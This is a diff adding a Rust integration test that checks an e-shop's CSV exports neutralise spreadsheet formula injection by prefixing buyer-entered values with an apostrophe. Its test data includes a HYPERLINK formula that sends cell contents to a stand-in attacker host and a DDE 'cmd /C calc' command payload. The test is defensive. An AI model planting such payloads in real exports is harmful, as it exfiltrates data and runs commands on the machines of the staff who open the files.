@@ -306,3 +306,51 @@ async fn the_dashboard_figures_follow_the_bills_in_three_requests() {
         .await
         .assert_problem(422, "validation_failed");
 }
+
+/// A buyer's words that a spreadsheet would run as a formula reach the accountant's export as
+/// text: the staff who open it run nothing a buyer typed.
+#[tokio::test]
+async fn a_buyers_formula_is_exported_as_text() {
+    let stack = Stack::start_embedded().await;
+    let cart = stack.new_cart().await;
+    let line = stack
+        .put(
+            &format!("/carts/{cart}/lines/EXCEL-ESS"),
+            serde_json::json!({"quantity": 1}),
+        )
+        .await;
+    assert_eq!(line.status, 200, "{}", line.body);
+    let link = "=HYPERLINK(\"http://attacker.test/?\"&A1,\"Open\")";
+    let mut buyer = enrolshop_tests::customer();
+    buyer["customer"]["firstname"] = link.into();
+    buyer["customer"]["organisation"] = "@SUM(1+1)*cmd|' /C calc'!A0".into();
+    buyer["customer"]["city"] = "+Paris".into();
+    let view = stack.put(&format!("/carts/{cart}/customer"), buyer).await;
+    assert_eq!(view.status, 200, "{}", view.body);
+    stack.place_and_pay(&cart).await;
+
+    for (path, delimiter) in [
+        ("/admin/shops/demo/exports/bills.csv", b','),
+        (
+            "/admin/shops/demo/exports/bills.csv?separator=semicolon&decimal=comma",
+            b';',
+        ),
+    ] {
+        let bills = export(&stack, path, delimiter).await;
+        assert_eq!(bills[0]["customer"], format!("'{link} Lovelace"), "{path}");
+        assert_eq!(bills[0]["organisation"], "'@SUM(1+1)*cmd|' /C calc'!A0");
+        assert!(
+            !bills[0]["total_incl_tax"].starts_with('\''),
+            "amounts stay numbers"
+        );
+    }
+    let customers = export(&stack, "/admin/shops/demo/exports/customers.csv", b',').await;
+    assert_eq!(customers[0]["firstname"], format!("'{link}"));
+    assert_eq!(customers[0]["city"], "'+Paris");
+    let payments = export(&stack, "/admin/shops/demo/exports/payments.csv", b',').await;
+    assert!(
+        payments[0]["customer"].starts_with("'="),
+        "{:?}",
+        payments[0]
+    );
+}
